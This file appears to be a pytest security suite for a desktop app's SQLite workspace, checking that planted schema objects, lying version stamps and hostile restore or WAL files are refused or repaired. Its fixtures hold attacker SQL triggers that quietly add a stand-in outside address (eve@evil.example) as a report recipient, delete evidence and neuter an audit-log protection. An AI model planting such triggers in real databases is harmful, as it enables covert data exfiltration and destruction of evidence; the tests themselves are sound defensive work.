"""A hostile database: schema objects a colleague planted in a workspace's orm.db (attacker 3), and
database files handed over (attacker 2: `restore FILE`, a workspace folder). docs/security.md,
"The database file itself". Each test is one attack, through the real CLI entry point (main(argv))
on real SQLite files."""

from __future__ import annotations

import hashlib
import os
import sqlite3
from pathlib import Path

import pytest

from orm_desktop.cli import main
from tests.conftest import copy_workspace, one_line
from tests.security._attack import raw

EVE = "eve@evil.example"


@pytest.fixture
def ws(demo_root, tmp_path) -> Path:
    return copy_workspace(demo_root, tmp_path / "ws")


def cli(capsys, ws_root: Path, *args: str) -> tuple[int, str, str]:
    code = main(["--workspace", str(ws_root), *args])
    out, err = capsys.readouterr()
    return code, out, err


def plant(ws_root: Path, *sql: str) -> None:
    conn = raw(ws_root)
    for statement in sql:
        conn.execute(statement)
    conn.close()




def a_mention(ws_root: Path) -> int:
    conn = raw(ws_root)
    try:
        return conn.execute("SELECT id FROM mentions WHERE status = 'new' ORDER BY id LIMIT 1").fetchone()[0]
    finally:
        conn.close()


def deliveries_value(ws_root: Path) -> str | None:
    conn = raw(ws_root)
    try:
        row = conn.execute("SELECT value FROM settings WHERE key = 'deliveries'").fetchone()
        return row[0] if row else None
    finally:
        conn.close()


ADD_EVE = ("INSERT OR REPLACE INTO settings (key, value) VALUES ('deliveries', json_object('recipients', "
           f"json_array(json_object('name', 'eve', 'email', '{EVE}', 'digest', 1, 'alerts', 1, 'reports', 1))))")

# (what the planted object does, its SQL, the victim's ordinary command)
PLANTED = {
    "triage adds an outside recipient": (
        f"CREATE TRIGGER zz_sync AFTER UPDATE OF status ON mentions BEGIN {ADD_EVE}; END", ["mark", "{mid}", "read"]),
    "any audited action re-labels sentiment and deletes evidence": (
        "CREATE TRIGGER zz_audit AFTER INSERT ON audit_log BEGIN UPDATE mentions SET sentiment = 1.0; "
        f"DELETE FROM evidence; {ADD_EVE}; END", ["deliveries", "recipient", "add", "ana", "ana@example.org"]),
    "an app trigger rewritten under its own name": (
        None, ["mark", "{mid}", "read"]),
}


@pytest.mark.parametrize("attack", list(PLANTED))
def test_a_planted_trigger_never_runs_in_the_victims_action(ws, capsys, attack):
    sql, argv = PLANTED[attack]
    if sql is None:  # mention_counts_au as m001 made it, plus the attacker's line
        conn = raw(ws)
        body = conn.execute("SELECT sql FROM sqlite_master WHERE name = 'mention_counts_au'").fetchone()[0]
        conn.close()
        sql = body.replace("END", f"{ADD_EVE}; END")
        plant(ws, "DROP TRIGGER mention_counts_au")
    plant(ws, sql)
    before = deliveries_value(ws)
    mid = a_mention(ws)
    code, _out, err = cli(capsys, ws, *[a.format(mid=mid) for a in argv])
    line = one_line(err)
    assert code == 1 and "did not create" in line and "orm-desktop check" in line, line
    assert deliveries_value(ws) == before  # the attacker's recipient was never added
    conn = raw(ws)
    assert conn.execute("SELECT status FROM mentions WHERE id = ?", (mid,)).fetchone()[0] == "new"
    conn.close()


def test_check_lists_every_schema_object_the_app_did_not_create(ws, capsys):
    assert cli(capsys, ws, "check")[0] == 0
    body = raw(ws).execute("SELECT sql FROM sqlite_master WHERE name = 'mention_counts_au'").fetchone()[0]
    plant(ws,
          f"CREATE TRIGGER zz_sync AFTER UPDATE OF status ON mentions BEGIN {ADD_EVE}; END",
          "CREATE VIEW zz_view AS SELECT * FROM settings",
          "CREATE TABLE zz_notes (x)",
          "CREATE INDEX zz_expr ON settings (json_extract(value, '$.a'))",
          "DROP TRIGGER mention_counts_au", body.replace("END", "DELETE FROM evidence; END"),
          "DROP TRIGGER audit_log_no_delete", "DROP INDEX mentions_overdue")
    code, out, err = cli(capsys, ws, "check")
    assert code == 1 and "Traceback" not in err
    for name in ("zz_sync", "zz_view", "zz_notes", "zz_expr", "mention_counts_au", "audit_log_no_delete",
                 "mentions_overdue"):
        assert name in out, (name, out)
    assert "trigger zz_sync on mentions" in out and "changed: trigger mention_counts_au" in out


def test_check_repair_drops_planted_objects_keeps_a_copy_and_the_app_works_again(ws, capsys):
    body = raw(ws).execute("SELECT sql FROM sqlite_master WHERE name = 'mention_counts_au'").fetchone()[0]
    plant(ws, f"CREATE TRIGGER zz_sync AFTER UPDATE OF status ON mentions BEGIN {ADD_EVE}; END",
          "CREATE TABLE zz_notes (x)",
          "DROP TRIGGER mention_counts_au", body.replace("END", "DELETE FROM evidence; END"),
          "DROP TRIGGER audit_log_no_delete")
    code, out, err = cli(capsys, ws, "check", "--repair")
    assert code == 0 and "Traceback" not in err, err
    assert "removed" in out and "zz_sync" in out and "kept at" in out
    kept = next((ws / "backups").glob("before-repair-*.db"))
    assert raw(kept.parent.parent).execute("SELECT count(*) FROM sqlite_master WHERE name LIKE 'zz_%'").fetchone()[0] == 0
    assert sqlite3.connect(kept).execute("SELECT count(*) FROM sqlite_master WHERE name = 'zz_sync'").fetchone()[0] == 1
    assert cli(capsys, ws, "check")[0] == 0  # the app's own trigger is back as it made it, the protection too
    mid = a_mention(ws)
    assert cli(capsys, ws, "mark", str(mid), "read")[0] == 0
    assert deliveries_value(ws) is None
    actions = [r[0] for r in raw(ws).execute("SELECT action FROM audit_log ORDER BY id DESC LIMIT 3")]
    assert "workspace.schema_repaired" in actions
    assert cli(capsys, ws, "audit", "verify")[0] == 0


def test_connections_run_in_defensive_mode(ws):
    """SQLITE_DBCONFIG_DEFENSIVE: no writable_schema, no writes to FTS5's shadow tables through the
    app's connection. (trusted_schema stays on: the app's own triggers write to its FTS5 table,
    which SQLite 3.40 does not mark innocuous: "unsafe use of virtual table items_fts".)"""
    from orm_desktop.service import Service

    svc = Service.open(ws)
    try:
        svc.conn.execute("PRAGMA writable_schema = ON")
        with pytest.raises(sqlite3.Error, match="may not be modified"):
            svc.conn.execute("UPDATE sqlite_master SET sql = sql WHERE name = 'settings'")
        with pytest.raises(sqlite3.Error, match="may not be modified"):
            svc.conn.execute("DELETE FROM items_fts_data")
        svc.set_status([a_mention(ws)], "read")  # the app's own triggers still run
    finally:
        svc.close()


@pytest.mark.parametrize("lie", ["older stamp", "a table gone"])
def test_a_schema_version_stamp_that_lies_is_one_line_and_nothing_is_migrated(ws, capsys, lie):
    plant(ws, "PRAGMA user_version = 10" if lie == "older stamp" else "DROP TABLE migration_log")
    digest = hashlib.sha256((ws / "orm.db").read_bytes()).hexdigest()
    code, _out, err = cli(capsys, ws, "mentions", "--limit", "1")
    line = one_line(err)
    assert code == 1 and ("version" in line or "migration_log" in line), line
    assert hashlib.sha256((ws / "orm.db").read_bytes()).hexdigest() == digest
    code, out, _err = cli(capsys, ws, "check")
    assert code == 1 and ("missing tables: migration_log" in out or "version stamp is 10" in out), out


def _backup_of(ws_root: Path, dest: Path) -> Path:
    with sqlite3.connect(ws_root / "orm.db") as a, sqlite3.connect(dest) as b:
        a.backup(b)
    return dest


@pytest.mark.parametrize("hostile", ["planted trigger", "older stamp", "not SQLite"])
def test_restore_refuses_a_hostile_database_file(ws, capsys, tmp_path, hostile):
    src = _backup_of(ws, tmp_path / "handed-over.db")
    if hostile == "planted trigger":
        plant_in = sqlite3.connect(src)
        plant_in.execute(f"CREATE TRIGGER zz AFTER UPDATE ON mentions BEGIN {ADD_EVE}; END")
        plant_in.commit()
        plant_in.close()
    elif hostile == "older stamp":
        sqlite3.connect(src, isolation_level=None).execute("PRAGMA user_version = 5")
    else:
        src.write_bytes(os.urandom(8192))
    digest = hashlib.sha256((ws / "orm.db").read_bytes()).hexdigest()
    code, _out, err = cli(capsys, ws, "restore", str(src))
    line = one_line(err)
    assert code == 1 and "cannot be restored" in line and "restore a backup" not in line, line
    assert hashlib.sha256((ws / "orm.db").read_bytes()).hexdigest() == digest
    assert not list((ws / "backups").glob("before-restore-*")) if (ws / "backups").exists() else True
    assert cli(capsys, ws, "mentions", "--limit", "1")[0] == 0


def test_restore_swaps_in_what_it_checked_not_a_planted_file_beside_it(ws, capsys, tmp_path):
    """The backup's main file holds a trigger; its -wal (read by the check) drops it again. The check
    saw no trigger and the main file alone, trigger included, was copied in."""
    src = _backup_of(ws, tmp_path / "handed-over.db")
    c = sqlite3.connect(src, isolation_level=None)
    c.execute(f"CREATE TRIGGER zz AFTER UPDATE ON mentions BEGIN {ADD_EVE}; END")
    c.execute("PRAGMA journal_mode = WAL")
    c.execute("PRAGMA wal_checkpoint(TRUNCATE)")  # the trigger is in the main file
    c.execute("PRAGMA wal_autocheckpoint = 0")
    c.execute("DROP TRIGGER zz")
    main_bytes, wal_bytes = src.read_bytes(), Path(f"{src}-wal").read_bytes()
    c.close()  # closing checkpoints: put the files back as they were before
    src.write_bytes(main_bytes)
    Path(f"{src}-wal").write_bytes(wal_bytes)
    code, _out, err = cli(capsys, ws, "restore", str(src))
    if code == 0:
        names = [r[0] for r in sqlite3.connect(ws / "orm.db").execute("SELECT name FROM sqlite_master")]
        assert "zz" not in names
    else:
        assert "cannot be restored" in one_line(err)
    assert cli(capsys, ws, "check")[0] == 0


def test_restore_of_a_sparse_giant_copies_only_the_database(ws, capsys, tmp_path):
    """A 5 MiB backup followed by 512 MiB of holes passed the check (SQLite reads the pages its
    header counts) and was copied whole: 512 MiB written (a 50 GiB one fills the disk)."""
    src = _backup_of(ws, tmp_path / "handed-over.db")
    real = src.stat().st_size
    os.truncate(src, 512 * 2**20)
    code, _out, err = cli(capsys, ws, "restore", str(src))
    assert code == 0, err
    assert (ws / "orm.db").stat().st_size <= real + 65536
    assert cli(capsys, ws, "check")[0] == 0


def test_import_bundle_into_a_folder_with_a_planted_trigger_runs_none_of_it(demo_root, tmp_path, capsys):
    """The empty workspace someone prepared for you holds a trigger on users: the import would
    give it every row (here: an outside recipient for every report)."""
    from orm_desktop.bundle import export_bundle
    from orm_desktop.service import Service

    src = Service.open(copy_workspace(demo_root, tmp_path / "src"))
    export_bundle(src, tmp_path / "b.ormbundle", by="cli")
    src.close()
    Service.create(tmp_path / "new").close()
    plant(tmp_path / "new", f"CREATE TRIGGER zz AFTER INSERT ON users BEGIN {ADD_EVE}; END")
    code, _out, err = cli(capsys, tmp_path / "new", "import-bundle", str(tmp_path / "b.ormbundle"))
    assert code == 1 and "did not create" in one_line(err)
    assert deliveries_value(tmp_path / "new") is None
    assert raw(tmp_path / "new").execute("SELECT count(*) FROM users").fetchone()[0] == 0


def test_a_trigger_planted_while_the_app_runs_never_fires(ws):
    """The app checked the schema when it opened; the colleague plants the trigger afterwards (the
    app runs all day). The next write notices the schema changed and looks again."""
    from orm_desktop.errors import SchemaTampered
    from orm_desktop.service import Service

    svc = Service.open(ws)
    try:
        mid = a_mention(ws)
        svc.set_status([mid], "flagged")
        plant(ws, f"CREATE TRIGGER zz AFTER UPDATE OF status ON mentions BEGIN {ADD_EVE}; END")
        with pytest.raises(SchemaTampered, match="trigger zz on mentions"):
            svc.set_status([mid], "read")
        assert deliveries_value(ws) is None
        assert svc.conn.execute("SELECT status FROM mentions WHERE id = ?", (mid,)).fetchone()[0] == "flagged"
    finally:
        svc.close()


@pytest.mark.parametrize("answer", ["No", "Yes"])
def test_the_gui_says_what_was_planted_and_offers_to_remove_it(ws, qtbot, monkeypatch, answer):
    """Started from its icon, the app printed one line on a terminal nobody sees and did not open."""
    from PySide6.QtWidgets import QMessageBox

    from orm_desktop.cli.gui import _open_or_offer_restore
    from orm_desktop.errors import SchemaTampered

    plant(ws, f"CREATE TRIGGER zz_sync AFTER UPDATE OF status ON mentions BEGIN {ADD_EVE}; END")
    asked: list[str] = []
    button = getattr(QMessageBox.StandardButton, answer)
    monkeypatch.setattr(QMessageBox, "question", lambda _p, title, text, *a, **k: (asked.append(text), button)[1])
    if answer == "No":
        with pytest.raises(SchemaTampered):
            _open_or_offer_restore(ws)
        assert raw(ws).execute("SELECT count(*) FROM sqlite_master WHERE name = 'zz_sync'").fetchone()[0] == 1
    else:
        svc = _open_or_offer_restore(ws)
        try:
            svc.set_status([a_mention(ws)], "read")
            assert deliveries_value(ws) is None
        finally:
            svc.close()
        assert list((ws / "backups").glob("before-repair-*.db"))
    assert len(asked) == 1 and "trigger zz_sync on mentions" in asked[0] and "changed by hand" in asked[0]


def test_a_protecting_trigger_emptied_under_its_own_name_is_caught_and_put_back(ws, capsys):
    """check looked for the protecting triggers by name: audit_log_no_delete re-created as a no-op
    passed it, and rows could be deleted through the app's own connection."""
    plant(ws, "DROP TRIGGER audit_log_no_delete",
          "CREATE TRIGGER audit_log_no_delete BEFORE DELETE ON audit_log BEGIN SELECT 1; END")
    code, out, _err = cli(capsys, ws, "check")
    assert code == 1 and "changed: trigger audit_log_no_delete on audit_log" in out, out
    assert cli(capsys, ws, "check", "--repair")[0] == 0
    conn = raw(ws)
    with pytest.raises(sqlite3.Error, match="append-only|not allowed|cannot"):
        conn.execute("DELETE FROM audit_log WHERE id = 1")
    conn.close()


def test_a_stamp_newer_than_the_tables_is_one_line(ws, capsys, tmp_path):
    """Stamped 16 over a schema of version 10 (a migrated file's stamp copied onto an old one): the
    app ran and failed on the first missing column."""
    old = tmp_path / "old.db"
    conn = sqlite3.connect(old, isolation_level=None)
    from orm_desktop.store import db

    conn.execute(f"PRAGMA application_id = {db.APPLICATION_ID}")
    for version, _name, apply in db._migrations():
        if version <= 10:
            apply(conn)
    conn.execute(f"PRAGMA user_version = {db.schema_version()}")
    conn.close()
    for suffix in ("", "-wal", "-shm"):
        Path(f"{ws / 'orm.db'}{suffix}").unlink(missing_ok=True)
    old.rename(ws / "orm.db")
    code, _out, err = cli(capsys, ws, "mentions", "--limit", "1")
    line = one_line(err)
    assert code == 1 and "not as ORM Desktop made them" in line and "restore" in line, line
    code, _out, err = cli(capsys, ws, "check", "--repair")
    assert code == 1 and "restore a backup" in one_line(err)


def test_a_wal_file_planted_beside_the_database_is_inspected_like_the_file(ws, capsys, tmp_path):
    """A -wal beside orm.db is part of the database: SQLite replays it at open. One that creates a
    trigger is refused like the trigger itself."""
    twin = tmp_path / "twin"
    twin.mkdir()
    (twin / "orm.db").write_bytes((ws / "orm.db").read_bytes())
    c = sqlite3.connect(twin / "orm.db", isolation_level=None)
    c.execute("PRAGMA wal_autocheckpoint = 0")
    c.execute(f"CREATE TRIGGER zz AFTER UPDATE OF status ON mentions BEGIN {ADD_EVE}; END")
    (ws / "orm.db-wal").write_bytes((twin / "orm.db-wal").read_bytes())
    c.close()
    code, _out, err = cli(capsys, ws, "mark", str(a_mention(ws)), "read")
    assert code == 1 and "trigger zz on mentions" in one_line(err)
    assert deliveries_value(ws) is None


def test_restore_of_a_backup_another_program_holds_locked_says_so(ws, capsys, tmp_path, monkeypatch):
    """It waited 10 s and said "another ORM Desktop process is writing" about the workspace; read
    through the backup API (this change) it hung for ever."""
    from orm_desktop import backup

    monkeypatch.setattr(backup, "SOURCE_BUSY_S", 0.2)
    src = _backup_of(ws, tmp_path / "handed-over.db")
    holder = sqlite3.connect(src, isolation_level=None, timeout=0)
    holder.execute("PRAGMA journal_mode = DELETE")
    holder.execute("BEGIN EXCLUSIVE")
    try:
        code, _out, err = cli(capsys, ws, "restore", str(src))
    finally:
        holder.execute("ROLLBACK")
        holder.close()
    line = one_line(err)
    assert code == 1 and "in use" in line and "ORM Desktop process" not in line, line


def test_the_recorded_schema_digest_is_the_one_the_migrations_make():
    """A workspace whose schema hashes to schema_digest.DIGESTS is inspected without building the
    reference (90-150 ms a process); a new migration must record its digest."""
    from orm_desktop.store import db, schema_digest, schema_guard

    version = db.schema_version()
    assert schema_digest.DIGESTS.get(version) == schema_guard.digest(schema_guard.expected(version)), (
        "the schema changed: run `python -m orm_desktop.store.schema_guard > orm_desktop/store/schema_digest.py` and commit schema_digest.py")


@pytest.mark.qt_no_exception_capture
def test_the_gui_says_so_when_a_trigger_is_planted_while_it_runs(window, qtbot, monkeypatch):
    """F on a mention after the colleague planted a trigger: the write was refused with a traceback
    on stderr and the window said nothing (the row just did not change)."""
    import sys

    from PySide6.QtCore import Qt
    from PySide6.QtWidgets import QMessageBox

    from orm_desktop.ui.app import install_error_hook

    shown: list[str] = []
    monkeypatch.setattr(QMessageBox, "warning", lambda _p, title, text, *a, **k: shown.append(text))
    monkeypatch.setattr(sys, "excepthook", sys.excepthook)  # restored after the test
    install_error_hook()
    inbox = window.inbox
    inbox.table.setFocus()
    inbox.table.selectRow(0)
    first = inbox.model.mention(0)
    plant(window.svc.ws.root, f"CREATE TRIGGER zz AFTER UPDATE OF status ON mentions BEGIN {ADD_EVE}; END")
    qtbot.keyClick(inbox.table, Qt.Key.Key_F)
    qtbot.waitUntil(lambda: bool(shown), timeout=3000)
    assert "trigger zz on mentions" in shown[0] and "\n" not in shown[0]
    assert window.svc.mention(first.id).mention.status == first.status
    assert deliveries_value(window.svc.ws.root) is None


def test_open_workspace_from_the_menu_offers_the_same_repair(window, qtbot, monkeypatch, demo_root, tmp_path):
    """File > Open workspace on a folder with a planted trigger showed the CLI's line in a warning
    ("`orm-desktop check --repair` removes them") and nothing to do about it in the app."""
    from PySide6.QtWidgets import QFileDialog, QMessageBox

    other = copy_workspace(demo_root, tmp_path / "other")
    plant(other, f"CREATE TRIGGER zz AFTER UPDATE OF status ON mentions BEGIN {ADD_EVE}; END")
    asked: list[str] = []
    monkeypatch.setattr(QFileDialog, "getExistingDirectory", lambda *a, **k: str(other))
    monkeypatch.setattr(QMessageBox, "question",
                        lambda _p, title, text, *a, **k: (asked.append(text), QMessageBox.StandardButton.Yes)[1])
    warned: list[str] = []
    monkeypatch.setattr(QMessageBox, "warning", lambda _p, title, text, *a, **k: warned.append(text))
    opened = []
    window.switch_workspace.connect(opened.append)
    window.open_workspace()
    assert not warned, warned
    assert len(asked) == 1 and "trigger zz on mentions" in asked[0]
    assert len(opened) == 1 and opened[0].ws.root == other
    opened[0].close()
    assert raw(other).execute("SELECT count(*) FROM sqlite_master WHERE name = 'zz'").fetchone()[0] == 0
